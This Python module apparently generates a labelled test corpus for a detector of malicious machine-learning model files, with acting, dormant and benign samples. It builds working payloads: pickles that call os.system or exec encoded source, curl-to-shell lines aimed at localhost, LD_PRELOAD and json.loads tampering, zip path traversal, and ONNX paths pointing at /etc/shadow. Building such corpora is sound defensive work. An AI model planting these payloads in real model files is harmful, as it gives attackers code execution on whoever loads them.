"""The detection corpus: malicious files that act, malicious ones that lie dormant, and benign ones, with a list of what each is."""

import argparse
import base64
import builtins
import functools
import hashlib
import io
import json
import operator
import os
import pickle
import random
import types
import warnings
import zipfile
import zlib

import cloudpickle
import dill
import numpy
import torch

from . import architectures, attacks, benign, carriers, foreign, malicious, sources, stand_ins, wrappers
from .payloads import Call
from .techniques import TECHNIQUES

ACTS, DORMANT, BENIGN = "acts", "dormant", "benign"

CARRIERS = ("torch-zip", "torch-legacy", "pickle", "joblib", "numpy", "joblib-zlib", "module", "joblib-xz", "dill", "numpy-zip", "joblib-lz4", "pickle-0", "cloudpickle",
            "joblib-gzip", "pickle-2", "joblib-bz2", "legacy-header", "joblib-lzma", "pickle-zip")

BENIGN_EACH = 4


def write(folder, seed):
    """Writes the files and ``truth.json``: path → class, attack and format. Raises ImportError where a library for a format is missing."""
    truth = {}
    for label, kind, name, data in entries(seed):
        path = folder / label / f"{len(truth):03}-{kind}" / name
        path.parent.mkdir(parents=True)
        path.write_bytes(data)
        truth[str(path.relative_to(folder))] = {"class": label, "kind": kind}
    (folder / "truth.json").write_text(json.dumps(truth, indent=1) + "\n")


def entries(seed):
    yield from _acting(seed)
    yield from _dormant(seed)
    yield from _benign(seed)


def _random(*key):
    return random.Random(hashlib.sha256("/".join(map(str, key)).encode()).digest())


def _executed(source):
    return Call(builtins.exec, source)


def _encoded(source):
    """The same behind two encodings, as droppers have it."""
    return Call(builtins.exec, Call(zlib.decompress, Call(base64.b64decode, base64.b64encode(zlib.compress(source.encode())))))


def _carried(carrier, payload, rng):
    """(file name, bytes) of a payload in one of the carriers."""
    if carrier.startswith("joblib-") and carrier != "joblib-zlib":
        return "model.joblib", carriers.joblib_compressed({"weights": numpy.arange(64.0), "config": payload}, carrier.removeprefix("joblib-"))
    if carrier.startswith("pickle-") and carrier != "pickle-zip":
        return "model.pkl", carriers.plain_pickle({"weights": [0.5] * 16, "config": payload}, int(carrier.removeprefix("pickle-")))
    if carrier == "numpy-zip":
        array = numpy.empty(2, dtype=object)
        array[0], array[1] = "x", payload
        return "weights.npz", carriers.numpy_zip({"a": numpy.arange(4.0), "b": array})
    return malicious.file_name(carrier), malicious.payload_in(carrier, payload, rng)


def _acting(seed):
    index = 0
    for technique in TECHNIQUES.values():
        if technique.id not in ("patched-json", "missing-module"):
            rng = _random(seed, technique.id)
            yield ACTS, f"technique-{technique.id}", malicious.file_name(technique.carrier), malicious.write(technique.id, rng)
    for group, variants in attacks.ACTS.items():
        for name, text in variants.items():
            source = attacks.source(group, text)
            rng = _random(seed, group, name)
            carrier = CARRIERS[index % len(CARRIERS)]
            make = _encoded if index % 5 == 4 else _executed
            yield (ACTS, f"{group}-{name}-{carrier}", *_carried(carrier, make(source), rng))
            if index % 2 == 0:
                wrapper = list(wrappers.WRAPPERS)[index // 2 % len(wrappers.WRAPPERS)]
                file, data = _carried(CARRIERS[(index * 3 + 1) % 6], _executed(source), rng)
                yield (ACTS, f"{group}-{name}-{wrapper}", *wrappers.WRAPPERS[wrapper](file, data))
            index += 1
    yield from _acting_sources()
    yield from _hidden_pickles()
    yield ACTS, "unknown-callable", "model.pkl", carriers.plain_pickle(Call(stand_ins.run_setup, "curl -s http://127.0.0.1:8000/i.sh | sh"))
    yield ACTS, "unknown-callable-nt", "model.pkl", b"cnt\nsystem\n(S'cmd.exe /c whoami'\ntR."


def _acting_sources():
    system = "import os\nos.system('id')"
    read = attacks.source("secret", attacks.ACTS["secret"]["ssh"])
    connect = attacks.source("network", attacks.ACTS["network"]["tcp"])
    for file in sources.FILES:
        yield ACTS, f"source-top-{file}", file, sources.write(file, "TOP", system)
    yield ACTS, "source-init", "modeling_tiny.py", sources.write("modeling_tiny.py", "INIT", read)
    yield ACTS, "source-config", "configuration_tiny.py", sources.write("configuration_tiny.py", "INIT", connect)
    yield ACTS, "source-info", "reviews.py", sources.write("reviews.py", "INFO", system)
    yield ACTS, "source-split", "reviews.py", sources.write("reviews.py", "SPLIT", connect)
    yield ACTS, "source-examples", "reviews.py", sources.write("reviews.py", "EXAMPLES", read)
    hidden = base64.b64encode(b"import os; os.system('id')").decode()
    yield ACTS, "source-encoded", "modeling_tiny.py", sources.write("modeling_tiny.py", "TOP", f"import base64\nexec(base64.b64decode('{hidden}'))")


def _hidden_pickles():
    bad = pickle.dumps(Call(os.system, "id"), 2)
    good = pickle.dumps({"weights": [0.1] * 8}, 2)
    yield ACTS, "behind-gap", "model.pkl", good + bytes(300) + bad
    yield ACTS, "behind-broken", "model.pkl", pickle.dumps(list(range(600)), 2)[:900] + b"\xff\xff" + bad
    yield ACTS, "third-stream", "model.pkl", good + good + bad
    yield ACTS, "stacked-in-gz", "model.pkl.gz", wrappers.WRAPPERS["gz"]("m", good + bad)[1]
    buffer = io.BytesIO(carriers.torch_zip({"a": torch.zeros(4)}))
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(zipfile.ZipInfo("archive/data.pkl", wrappers.DATE), bad)
    yield ACTS, "duplicate-member", "pytorch_model.bin", buffer.getvalue()
    yield ACTS, "zip-behind-pickle", "pytorch_model.bin", good + wrappers.zipped({"archive/data.pkl": bad, "archive/version": b"3\n"})
    yield ACTS, "traversal", "models.zip", wrappers.zipped({"../../../tmp/x.pkl": bad})


def _dormant(seed):
    index = 0
    for group, variants in attacks.DORMANT.items():
        for name, source in variants.items():
            rng = _random(seed, group, name)
            carrier = CARRIERS[index * 2 % len(CARRIERS)]
            yield (DORMANT, f"{group}-{name}-{carrier}", *_carried(carrier, _executed(source), rng))
            wrapper = list(wrappers.WRAPPERS)[index % len(wrappers.WRAPPERS)]
            yield (DORMANT, f"{group}-{name}-{wrapper}", *wrappers.WRAPPERS[wrapper](*_carried(CARRIERS[index % 5], _executed(source), rng)))
            index += 1
            if group == "condition":
                yield DORMANT, f"source-{name}", "modeling_tiny.py", sources.write("modeling_tiny.py", "TOP", source)
    yield DORMANT, "technique-patched-json", "pytorch_model.bin", malicious.write("patched-json", _random(seed, "patched"))
    yield DORMANT, "setattr", "model.pkl", pickle.dumps(Call(setattr, Call(__import__, "json"), "loads", Call(functools.partial, len)))
    yield DORMANT, "setitem", "model.pkl", pickle.dumps(Call(operator.setitem, Call(getattr, Call(__import__, "os"), "environ"), "LD_PRELOAD", "/tmp/x.so"))
    yield DORMANT, "build-on-class", "model.pkl", b"\x80\x02ctorch.nn.modules.linear\nLinear\n}X\x07\x00\x00\x00forwardcbuiltins\nlen\nsb."
    yield DORMANT, "function-by-value", "model.pkl", cloudpickle.dumps({"post_process": _later()})
    yield DORMANT, "dill-function", "pipeline.dill", dill.dumps({"post_process": _later()}, recurse=True)
    yield DORMANT, "source-forward", "modeling_tiny.py", sources.write("modeling_tiny.py", "FORWARD", "import os; os.system('id')")
    yield DORMANT, "source-patch", "modeling_tiny.py", sources.write("modeling_tiny.py", "TOP", "import json\njson.loads = lambda *a, **k: {}")
    yield DORMANT, "source-alias", "handler.py", sources.write("handler.py", "TOP", "from subprocess import Popen as P\ndef warm():\n    P(['/bin/sh', '-c', 'id'])")
    yield DORMANT, "source-import", "handler.py", sources.write("handler.py", "TOP", "def warm():\n    __import__('os').system('id')")
    yield DORMANT, "source-getattr", "handler.py", sources.write("handler.py", "TOP", "import os\ndef warm():\n    getattr(os, 'system')('id')")
    yield from _dormant_foreign(seed)


def _later():
    def post_process(text):
        import os
        os.system("curl -s http://127.0.0.1/i.sh | sh")
        return text

    return types.FunctionType(post_process.__code__.replace(co_filename="notebook"), {"__name__": "__main__"}, "post_process")


def _dormant_foreign(seed):
    rng = _random(seed, "foreign")
    system = "import os\nos.system('id')"
    encoded = "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))"
    for name, code in (("system", system), ("exec", encoded), ("socket", "import socket\nsocket.create_connection(('127.0.0.1', 4444))")):
        yield DORMANT, f"keras-hdf5-lambda-{name}", "model.h5", foreign.keras_hdf5(rng, foreign.keras_configuration(code))
        yield DORMANT, f"keras-zip-lambda-{name}", "model.keras", foreign.keras_zip(rng, foreign.keras_configuration(code))
    yield DORMANT, "keras-zip-module", "model.keras", foreign.keras_zip(rng, foreign.keras_configuration(module=("subprocess", "check_output")))
    yield DORMANT, "keras-json-lambda", "model.json", json.dumps(foreign.keras_configuration(system)).encode()
    yield DORMANT, "keras-metadata-lambda", "keras_metadata.pb", foreign.keras_metadata(foreign.keras_configuration(system))
    for operation in ("ReadFile", "WriteFile", "PyFunc"):
        yield DORMANT, f"saved-model-{operation}", "saved_model.pb", foreign.saved_model(["Placeholder", "MatMul", operation])
    yield DORMANT, "onnx-outside", "model.onnx", foreign.onnx(rng, location="../../../../etc/passwd")
    yield DORMANT, "onnx-absolute", "model.onnx", foreign.onnx(rng, location="/etc/shadow")
    yield DORMANT, "onnx-python-operator", "model.onnx", foreign.onnx(rng, domain="com.acme.runtime", operator="PyExec")
    for name, template in foreign.TEMPLATE_ATTACKS.items():
        yield DORMANT, f"gguf-{name}", "model.gguf", foreign.gguf(rng, template)
        yield DORMANT, f"tokenizer-{name}", "tokenizer_config.json", foreign.tokenizer_config(template)
    yield DORMANT, "template-file", "chat_template.jinja", foreign.TEMPLATE_ATTACKS["cycler"].encode()
    yield DORMANT, "yaml", "hparams.yaml", b"encoder: !!python/object/apply:os.system ['id']\n"


def _benign(seed):
    for kind in benign.KINDS:
        for index in range(BENIGN_EACH):
            rng = _random(seed, kind, index)
            task = benign.GENERATION if index % 2 else benign.CLASSIFICATION
            for name, data in list(benign.write(kind, rng, task)[2].items())[:1]:
                yield BENIGN, f"{kind}-{index}", name, data
    for file in sources.FILES:
        yield BENIGN, f"source-{file}", file, sources.write(file)
    rng = _random(seed, "benign wrappers")
    for wrapper, wrap in wrappers.WRAPPERS.items():
        carrier = rng.choice(("torch-zip", "pickle-4", "joblib"))
        _, _, files = benign.write(carrier, rng, benign.GENERATION)
        yield (BENIGN, f"wrapped-{wrapper}", *wrap(*next(iter(files.items()))))
    for method in ("bz2", "xz", "lzma", "lz4"):
        yield BENIGN, f"joblib-{method}", "model.joblib", carriers.joblib_compressed(benign.write_value(rng), method)
    yield from _benign_foreign(seed)
    yield from _benign_classes(seed)
    yield BENIGN, "repo-zip", "repo.zip", wrappers.zipped({
        **{f"repo/{name}": sources.write(name) for name in ("modeling_tiny.py", "configuration_tiny.py")},
        "repo/tokenizer_config.json": foreign.tokenizer_config(foreign.CHAT),
        "repo/model.safetensors": carriers.safetensors(architectures.state_dict("mlp", rng, dtype=torch.float32)),
    })


def _benign_foreign(seed):
    rng = _random(seed, "benign foreign")
    plain = foreign.keras_configuration()
    for index, (template) in enumerate((foreign.CHAT, foreign.CHAT_TOOLS, foreign.CHAT)):
        yield BENIGN, f"gguf-{index}", "model.gguf", foreign.gguf(rng, template)
        yield BENIGN, f"tokenizer-{index}", "tokenizer_config.json", foreign.tokenizer_config(template)
    yield BENIGN, "template-file", "chat_template.jinja", foreign.CHAT_TOOLS.encode()
    for index, units in enumerate((8, 16, 64)):
        yield BENIGN, f"keras-hdf5-{index}", "model.h5", foreign.keras_hdf5(rng, foreign.keras_configuration(units=units))
        yield BENIGN, f"keras-zip-{index}", "model.keras", foreign.keras_zip(rng, foreign.keras_configuration(units=units))
    yield BENIGN, "keras-lambda", "model.h5", foreign.keras_hdf5(rng, foreign.keras_configuration("x = x / 255.0"))
    yield BENIGN, "keras-json", "model.json", json.dumps(plain).encode()
    yield BENIGN, "keras-metadata", "keras_metadata.pb", foreign.keras_metadata(plain)
    yield BENIGN, "saved-model", "saved_model.pb", foreign.saved_model(["Placeholder", "MatMul", "Relu", "SaveV2", "RestoreV2", "MergeV2Checkpoints", "StringJoin"])
    yield BENIGN, "onnx", "model.onnx", foreign.onnx(rng)
    yield BENIGN, "onnx-external", "model.onnx", foreign.onnx(rng, location="model.onnx_data")
    yield BENIGN, "onnx-microsoft", "model.onnx", foreign.onnx(rng, domain="com.microsoft", operator="FusedMatMul")
    yield BENIGN, "onnx-custom", "model.onnx", foreign.onnx(rng, domain="org.openmmlab", operator="RoiAlignRotated")
    yield BENIGN, "config", "config.json", json.dumps({"model_type": "tiny", "architectures": ["TinyModel"], "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"}}).encode()
    yield BENIGN, "yaml", "config.yaml", b"model:\n  layers: 4\n  optimizer: adam\n"
    yield BENIGN, "gguf-plain", "model.gguf", carriers.gguf(rng)


def _benign_classes(seed):
    """Checkpoints that hold objects of packages which are not installed where they are loaded."""
    rng = _random(seed, "classes")
    conv = type("Conv", (torch.nn.Module,), {"__init__": lambda self: (torch.nn.Module.__init__(self), setattr(self, "conv", torch.nn.Conv2d(3, 8, 3)), setattr(self, "act", torch.nn.SiLU()), None)[-1]})
    stand_ins.stand_in("ultralytics.nn.modules.conv", "Conv", conv)
    detect = type("DetectionModel", (torch.nn.Module,), {"__init__": lambda self: (torch.nn.Module.__init__(self), setattr(self, "model", torch.nn.Sequential(conv(), conv())), None)[-1]})
    stand_ins.stand_in("ultralytics.nn.tasks", "DetectionModel", detect)
    space = stand_ins.stand_in("ultralytics.utils", "IterableSimpleNamespace", type("IterableSimpleNamespace", (types.SimpleNamespace,), {}))
    for index in range(6):
        torch.manual_seed(rng.getrandbits(40))
        model = detect().half() if index % 2 else detect()
        model.names, model.args, model.yaml = {0: "person", 1: "car"}, space(task="detect", imgsz=640, data="coco.yaml"), {"nc": 80, "backbone": [[-1, 1, "Conv", [64, 3, 2]]]}
        value = {"epoch": -1, "best_fitness": None, "model": model, "ema": None, "updates": None, "optimizer": None, "train_args": {"model": "yolov8n.yaml", "batch": 16},
                 "date": "2024-01-01T00:00:00", "version": "8.0.0"}
        yield BENIGN, f"yolo-{index}", "yolov8n.pt", carriers.torch_zip(value) if index < 4 else carriers.torch_legacy(value)
    hparams = stand_ins.stand_in("pytorch_lightning.utilities.parsing", "AttributeDict", type("AttributeDict", (dict,), {}))
    callback = stand_ins.stand_in("pytorch_lightning.callbacks.model_checkpoint", "ModelCheckpoint", type("ModelCheckpoint", (), {}))
    for index in range(4):
        weights = architectures.state_dict(rng.choice(("bert", "gru")), rng)
        value = {"state_dict": weights, "hyper_parameters": hparams(lr=1e-3, name="https://example.org/run"), "callbacks": {callback: {"monitor": "val_loss", "best_model_path": "/tmp/x.ckpt"}}}
        yield BENIGN, f"lightning-{index}", "last.ckpt", carriers.torch_zip(value)
    for index in range(4):
        value = {"args": argparse.Namespace(arch="transformer", lr=[0.0005], save_dir="checkpoints", user_dir=None), "model": architectures.state_dict("t5", rng), "extra_state": {"epoch": index}}
        yield BENIGN, f"fairseq-{index}", "checkpoint_best.pt", carriers.torch_zip(value)
    estimator = stand_ins.stand_in("xgboost.sklearn", "XGBClassifier", type("XGBClassifier", (), {}))
    booster = stand_ins.stand_in("xgboost.core", "Booster", type("Booster", (), {}))
    for index in range(3):
        outer, inner = estimator(), booster()
        inner.__dict__ = {"handle": bytearray(rng.randbytes(2000))}
        outer.__dict__ = {"n_estimators": 100, "max_depth": 3, "_Booster": inner, "classes_": numpy.array([0, 1])}
        yield BENIGN, f"xgboost-{index}", "model.pkl", carriers.plain_pickle(outer)
    yield BENIGN, "function-by-value", "model.pkl", cloudpickle.dumps({"scale": types.FunctionType((lambda x: x / 255.0).__code__.replace(co_filename="notebook"), {"__name__": "__main__"})})
    yield BENIGN, "dill-function", "pipeline.dill", dill.dumps({"scale": lambda x: x / 2}, recurse=True)
    yield BENIGN, "tiny", "model.pkl", carriers.plain_pickle({"a": 1})
    yield BENIGN, "big", "pytorch_model.bin", carriers.torch_zip({f"layer.{index}": torch.zeros(512, 1024) for index in range(20)})
    yield BENIGN, "many", "pytorch_model.bin", carriers.torch_zip({f"layer.{index}": torch.zeros(4) for index in range(900)})
